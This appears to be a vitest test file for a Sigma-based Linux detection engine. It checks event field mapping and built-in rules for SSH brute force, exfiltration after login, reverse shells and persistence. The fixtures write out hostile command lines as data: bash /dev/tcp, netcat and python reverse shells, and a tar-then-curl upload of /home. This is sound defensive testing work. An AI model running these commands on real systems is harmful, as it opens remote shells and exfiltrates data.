import { describe, expect, it } from "vitest";
import { AuthAction, Direction, Event, FileAction, NetworkAction, ProcessAction } from "@vigil/proto";
import { compileBuiltinRules, compileRules, DetectionEngine, testRules, toSigmaEvent } from "../../src/sigma";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
// @ts-expect-error plain .mjs build script without type declarations
import { renderBuiltinRules, OUT_FILE } from "../../../scripts/build/embed-rules.mjs";
import { readFileSync } from "node:fs";

const ctx = { agentId: "a1", hostname: "web-1" };
const T0 = Date.UTC(2025, 0, 1);

const authEv = (action: AuthAction, ip: string, t: number, user = "bob"): Event =>
  Event.fromPartial({ seq: 1, eventTimeMs: t, body: { $case: "auth", auth: { action, sourceIp: ip, user, service: "sshd", method: "password" } } });
const procEv = (exe: string, cmd: string, t = T0, extra: object = {}): Event =>
  Event.fromPartial({ eventTimeMs: t, body: { $case: "process", process: { action: ProcessAction.PROCESS_ACTION_START, exe, commandLine: cmd, user: "bob", pid: 10, ppid: 1, ...extra } } });
const fileEv = (path: string, action = FileAction.FILE_ACTION_MODIFY): Event => Event.fromPartial({ eventTimeMs: T0, body: { $case: "file", file: { action, path } } });

function engine(): DetectionEngine {
  const { ruleset, errors } = compileBuiltinRules();
  expect(errors).toEqual([]);
  return new DetectionEngine(ruleset);
}
const run = (e: DetectionEngine, evs: Event[], c = ctx) => {
  const out = evs.flatMap((ev) => e.process(toSigmaEvent(ev, c)!));
  return [...out, ...e.flush()];
};

describe("field mapping", () => {
  it("maps process start and exit to different categories", () => {
    const s = toSigmaEvent(procEv("/usr/bin/curl", "curl x", T0, { sha256: "AB", cwd: "/home/bob", parentExe: "/bin/bash" }), ctx)!;
    expect(s.logsource).toEqual({ product: "linux", category: "process_creation" });
    expect(s.fields).toMatchObject({
      Image: "/usr/bin/curl",
      CommandLine: "curl x",
      ParentImage: "/bin/bash",
      User: "bob",
      ProcessId: 10,
      ParentProcessId: 1,
      CurrentDirectory: "/home/bob",
      Hashes: "SHA256=AB",
      Hostname: "web-1",
      AgentId: "a1",
    });
    expect(s.timeMs).toBe(T0);
    const exit = Event.fromPartial({ body: { $case: "process", process: { action: ProcessAction.PROCESS_ACTION_EXIT, exe: "/tmp/x" } } });
    expect(toSigmaEvent(exit, ctx)!.logsource.category).toBe("process_termination");
  });
  it("maps where a process runs (cgroup, container, pod, unit), and leaves them out when unknown", () => {
    const id = "ab".repeat(32);
    const inContainer = procEv("/bin/sh", "sh -c id", T0, {
      cgroupPath: `/kubepods.slice/kubepods-pod1_2.slice/cri-containerd-${id}.scope`,
      containerId: id,
      containerRuntime: "containerd",
      podUid: "6a3c0c0e-8a4b-4b8e-9c1d-2f3e4a5b6c7d",
      systemdUnit: `cri-containerd-${id}.scope`,
    });
    expect(toSigmaEvent(inContainer, ctx)!.fields).toMatchObject({
      CgroupPath: `/kubepods.slice/kubepods-pod1_2.slice/cri-containerd-${id}.scope`,
      ContainerId: id,
      ContainerRuntime: "containerd",
      PodUid: "6a3c0c0e-8a4b-4b8e-9c1d-2f3e4a5b6c7d",
      SystemdUnit: `cri-containerd-${id}.scope`,
    });
    const onHost = toSigmaEvent(procEv("/bin/sh", "sh -c id", T0, { cgroupPath: "/system.slice/cron.service", systemdUnit: "cron.service" }), ctx)!.fields;
    expect(onHost).not.toHaveProperty("ContainerId");
    expect(onHost.SystemdUnit).toBe("cron.service");
    // So a rule can select containerised processes, or keep to the host.
    const rule = `title: Shell in a container\nid: 7b0f6a7e-0c1e-4b5f-9a55-1f0f1e7d2c01\nlevel: high\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    selection:\n        Image|endswith: /sh\n        ContainerId|exists: true\n    condition: selection\n`;
    const { ruleset, errors } = compileRules([{ name: "r.yml", text: rule }]);
    expect(errors).toEqual([]);
    const e = new DetectionEngine(ruleset);
    expect(e.process(toSigmaEvent(inContainer, ctx)!)).toHaveLength(1);
    expect(e.process(toSigmaEvent(procEv("/bin/sh", "sh -c id"), ctx)!)).toHaveLength(0);
  });
  it("gives file, network and DNS events the process categories' container fields", () => {
    const id = "cd".repeat(32);
    const where = { cgroupPath: `/system.slice/docker-${id}.scope`, containerId: id, containerRuntime: "docker", podUid: "", systemdUnit: `docker-${id}.scope` };
    const fields = { CgroupPath: where.cgroupPath, ContainerId: id, ContainerRuntime: "docker", SystemdUnit: where.systemdUnit };
    const bodies: Array<[Event["body"], string]> = [
      [Event.fromPartial({ body: { $case: "file", file: { action: FileAction.FILE_ACTION_CREATE, path: "/etc/x", ...where } } }).body, "file_event"],
      [Event.fromPartial({ body: { $case: "file", file: { action: FileAction.FILE_ACTION_DELETE, path: "/etc/x", ...where } } }).body, "file_delete"],
      [Event.fromPartial({ body: { $case: "network", network: { action: NetworkAction.NETWORK_ACTION_OPEN, ...where } } }).body, "network_connection"],
      [Event.fromPartial({ body: { $case: "network", network: { action: NetworkAction.NETWORK_ACTION_CLOSE, ...where } } }).body, "network_close"],
      [Event.fromPartial({ body: { $case: "dns", dns: { queryName: "x.example", ...where } } }).body, "dns_query"],
    ];
    for (const [body, category] of bodies) {
      const ev = toSigmaEvent(Event.fromPartial({ seq: 1, eventTimeMs: T0, body }), ctx)!;
      expect(ev.logsource.category).toBe(category);
      expect(ev.fields, category).toMatchObject(fields);
      // Unknown (empty) is absent, as on process events: `ContainerId|exists` keeps its meaning.
      expect(ev.fields).not.toHaveProperty("PodUid");
    }
    const onHost = toSigmaEvent(Event.fromPartial({ seq: 1, eventTimeMs: T0, body: { $case: "dns", dns: { queryName: "x.example" } } }), ctx)!.fields;
    expect(onHost).not.toHaveProperty("ContainerId");
  });
  it("maps network direction the Sysmon way (Source = initiator)", () => {
    const net = (direction: Direction) =>
      toSigmaEvent(
        Event.fromPartial({
          body: {
            $case: "network",
            network: { action: NetworkAction.NETWORK_ACTION_OPEN, direction, localAddress: "10.0.0.5", localPort: 40000, remoteAddress: "1.2.3.4", remotePort: 443, protocol: "tcp" },
          },
        }),
        ctx,
      )!;
    expect(net(Direction.DIRECTION_OUTBOUND).fields).toMatchObject({ SourceIp: "10.0.0.5", DestinationIp: "1.2.3.4", DestinationPort: 443, Initiated: "true" });
    expect(net(Direction.DIRECTION_INBOUND).fields).toMatchObject({ SourceIp: "1.2.3.4", DestinationIp: "10.0.0.5", DestinationPort: 40000, Initiated: "false" });
    expect(net(Direction.DIRECTION_OUTBOUND).logsource.category).toBe("network_connection");
  });
  it("maps auth events to service sshd/sudo/auth with user, source ip and outcome", () => {
    const s = toSigmaEvent(authEv(AuthAction.AUTH_ACTION_INVALID_USER, "5.5.5.5", T0), ctx)!;
    expect(s.logsource).toEqual({ product: "linux", category: "authentication", service: "sshd" });
    expect(s.fields).toMatchObject({ User: "bob", SourceIp: "5.5.5.5", Outcome: "failure", AuthAction: "invalid_user", AuthMethod: "password" });
  });
});

describe("built-in rule pack", () => {
  it("raises exactly one brute-force alert for 5+ failures in 10 minutes from one IP", () => {
    const times = [0, 40, 95, 130, 200, 260, 300].map((s) => T0 + s * 1000);
    const out = run(
      engine(),
      times.map((t) => authEv(AuthAction.AUTH_ACTION_LOGIN_FAILURE, "203.0.113.9", t)),
    );
    expect(out.map((m) => m.rule.title)).toEqual(["SSH Brute Force From One Source"]);
    expect(out[0].groupBy).toEqual({ SourceIp: "203.0.113.9" });
  });
  it("raises nothing for a few failures spread over hours", () => {
    const times = [0, 1, 2, 3, 4, 5, 6].map((h) => T0 + h * 3_600_000);
    expect(
      run(
        engine(),
        times.map((t) => authEv(AuthAction.AUTH_ACTION_LOGIN_FAILURE, "203.0.113.9", t)),
      ),
    ).toEqual([]);
  });
  it("flags brute force followed by a successful login from that IP", () => {
    const evs = [0, 10, 20, 30, 40].map((s) => authEv(AuthAction.AUTH_ACTION_LOGIN_FAILURE, "198.51.100.7", T0 + s * 1000));
    evs.push(authEv(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "198.51.100.7", T0 + 90_000));
    const titles = run(engine(), evs).map((m) => m.rule.title);
    expect(titles).toContain("SSH Brute Force Followed By Successful Login");
    expect(titles).toContain("SSH Brute Force From One Source");
  });
  it("flags a login followed by archive and upload by the same user", () => {
    const evs = [
      authEv(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "198.51.100.8", T0, "eve"),
      procEv("/usr/bin/tar", "tar czf /tmp/h.tgz /home", T0 + 60_000, { user: "eve" }),
      procEv("/usr/bin/curl", "curl -T /tmp/h.tgz https://x.example/", T0 + 120_000, { user: "eve" }),
    ];
    // The upload alone is also "File Uploaded With An HTTP Client"; the correlation is what ties it to the login.
    const correlated = (ms: ReturnType<typeof run>) => ms.map((m) => m.rule.title).filter((t) => t !== "File Uploaded With An HTTP Client");
    expect(correlated(run(engine(), evs))).toEqual(["Login Followed By Archive And Upload"]);
    const other = [evs[0], procEv("/usr/bin/tar", "tar czf a b", T0 + 1, { user: "mallory" }), procEv("/usr/bin/curl", "curl -T a u", T0 + 2, { user: "mallory" })];
    expect(correlated(run(engine(), other))).toEqual([]);
  });
  it("flags a login followed by a large outbound transfer", () => {
    const big = Event.fromPartial({
      eventTimeMs: T0 + 5000,
      body: { $case: "network", network: { action: NetworkAction.NETWORK_ACTION_CLOSE, direction: Direction.DIRECTION_OUTBOUND, user: "eve", remoteAddress: "1.2.3.4", bytesSent: 80 * 1024 * 1024 } },
    });
    const out = run(engine(), [authEv(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "1.1.1.1", T0, "eve"), big]);
    expect(out.map((m) => m.rule.title)).toEqual(["Login Followed By Large Outbound Transfer"]);
  });
  it.each([
    [procEv("/tmp/.x/miner", "/tmp/.x/miner -o pool"), "Execution From Temporary Directory Or Deleted File"],
    [procEv("/usr/bin/foo", "foo", T0, { exeDeleted: true }), "Execution From Temporary Directory Or Deleted File"],
    [procEv("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), "Reverse Shell Command Line"],
    [procEv("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh"), "Reverse Shell Command Line"],
    [procEv("/usr/bin/python3", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1));import pty; pty.spawn("/bin/sh")'`), "Reverse Shell Command Line"],
    [fileEv("/root/.ssh/authorized_keys"), "SSH Authorized Keys Created Or Changed"],
    [fileEv("/etc/cron.d/backdoor", FileAction.FILE_ACTION_CREATE), "Crontab Created Or Changed"],
    [fileEv("/etc/systemd/system/evil.service", FileAction.FILE_ACTION_CREATE), "Systemd Unit Created Or Changed"],
    [fileEv("/home/bob/.config/systemd/user/x.timer"), "Systemd Unit Created Or Changed"],
    [fileEv("/etc/sudoers.d/90-evil"), "Sudoers Created Or Changed"],
  ])("single-event rule fires: %#", (ev, title) => {
    expect(run(engine(), [ev]).map((m) => m.rule.title)).toContain(title);
  });
  it("stays quiet on ordinary activity", () => {
    const evs = [
      procEv("/usr/bin/ls", "ls -la /tmp"),
      procEv("/usr/bin/nc", "nc -zv host 22"),
      fileEv("/etc/hosts"),
      fileEv("/etc/systemd/system/x.conf"),
      fileEv("/root/.ssh/authorized_keys", FileAction.FILE_ACTION_DELETE),
    ];
    expect(run(engine(), evs)).toEqual([]);
  });
  it("fires the IOC rule when the controller marks an IOC hit", () => {
    const out = run(engine(), [procEv("/usr/bin/x", "x")], { ...ctx, iocMatches: [{ type: "sha256", value: "ab", source: "feed" }] } as typeof ctx);
    expect(out.map((m) => m.rule.title)).toEqual(["Known-Bad Indicator (IOC) Hit"]);
  });
  it("every built-in rule has a UUID id, a level and ATT&CK tags", () => {
    const { ruleset } = compileBuiltinRules();
    for (const r of ruleset.rules) {
      expect(r.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(r.tags.some((t) => /^attack\.t\d{4}/.test(t))).toBe(true);
    }
  });
  it("the embedded copy (builtin-rules.ts) is current with detection/rules", () => {
    expect(readFileSync(OUT_FILE as string, "utf8")).toBe((renderBuiltinRules as () => string)());
  });
});

describe("testRules", () => {
  it("evaluates flat and Vigil JSON events, correlations included, and reports bad lines", () => {
    const dir = mkdtempSync(join(tmpdir(), "vigil-rt-"));
    try {
      const rules = join(__dirname, "../../rules");
      const lines: string[] = [];
      for (let i = 0; i < 5; i++) lines.push(JSON.stringify(Event.toJSON(authEv(AuthAction.AUTH_ACTION_LOGIN_FAILURE, "192.0.2.1", T0 + i * 1000))));
      lines.push(JSON.stringify({ Image: "/dev/shm/x", CommandLine: "x" })); // flat, no logsource: all rules apply
      lines.push(JSON.stringify({ logsource: { product: "linux", category: "file_event" }, Image: "/tmp/y" })); // wrong logsource
      lines.push("{not json");
      lines.push("");
      const eventsFile = join(dir, "events.jsonl");
      writeFileSync(eventsFile, lines.join("\n"));
      const r = testRules(rules, readFileSync(eventsFile, "utf8"));
      expect(r.ruleErrors).toEqual([]);
      expect(r.eventErrors).toEqual([{ line: 8, message: expect.stringMatching(/JSON/) }]);
      expect(r.events).toBe(7);
      expect(r.matches.map((m) => m.title).sort()).toEqual(["Execution From Temporary Directory Or Deleted File", "SSH Brute Force From One Source"]);
      const brute = r.matches.find((m) => m.kind === "correlation")!;
      expect(brute.events).toHaveLength(5);
      expect(brute.events[0]).toMatchObject({ SourceIp: "192.0.2.1", AuthAction: "login_failure" });
    } finally {
      rmSync(dir, { recursive: true });
    }
  });
});
